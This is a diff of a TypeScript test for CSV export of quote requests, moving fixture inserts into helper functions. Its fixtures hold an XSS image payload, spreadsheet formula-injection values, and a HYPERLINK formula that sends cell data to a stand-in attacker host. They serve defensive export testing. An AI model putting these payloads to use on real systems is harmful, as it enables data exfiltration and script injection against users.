@@ -4,6 +4,7 @@ import { csvStream, toCsv } from "~/lib/csv";
 import type { Database } from "~/server/db/schema.server";
 import { freshDatabaseEach, testDialects } from "../../../tests/support/databases";
 import { downloadTable } from "./exports.server";
+import { insertQuoteItem, insertQuoteRequest } from "./testing/quote-leads";
 
 const XSS = "<img src=x onerror=alert(1)>";
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")';
@@ -26,36 +27,20 @@ async function contact(db: Database, at: string, fields: { name: string; message
 }
 
 async function quoteWithFile(db: Database, at: string, fileName: string) {
-  const request = await db
-    .insertInto("quote_requests")
-    .values({
-      reference: "Q-XSS001",
-      company: `@SUM(1+1) ${XSS}`,
-      name: "-2+3",
-      email: "buyer@example.com",
-      phone: null,
-      postal_code: "75201",
-      needed_by: null,
-      po_reference: null,
-      label_details: null,
-      foam_details: null,
-      client_key: null,
-      created_at: at,
-    })
-    .returning("id")
-    .executeTakeFirstOrThrow();
-  await db
-    .insertInto("quote_items")
-    .values({
-      request_id: request.id,
-      position: 0,
-      area: "labels",
-      description: "\tthermal labels",
-      quantity: 24,
-      unit: "roll",
-      notes: "+1 800 555 0199",
-    })
-    .execute();
+  const requestId = await insertQuoteRequest(db, {
+    reference: "Q-XSS001",
+    company: `@SUM(1+1) ${XSS}`,
+    name: "-2+3",
+    email: "buyer@example.com",
+    postal_code: "75201",
+    created_at: at,
+  });
+  await insertQuoteItem(db, requestId, {
+    description: "\tthermal labels",
+    quantity: 24,
+    unit: "roll",
+    notes: "+1 800 555 0199",
+  });
   const file = await db
     .insertInto("stored_files")
     .values({
@@ -70,7 +55,7 @@ async function quoteWithFile(db: Database, at: string, fileName: string) {
     .executeTakeFirstOrThrow();
   await db
     .insertInto("quote_files")
-    .values({ request_id: request.id, position: 0, file_id: file.id })
+    .values({ request_id: requestId, position: 0, file_id: file.id })
     .execute();
 }
 
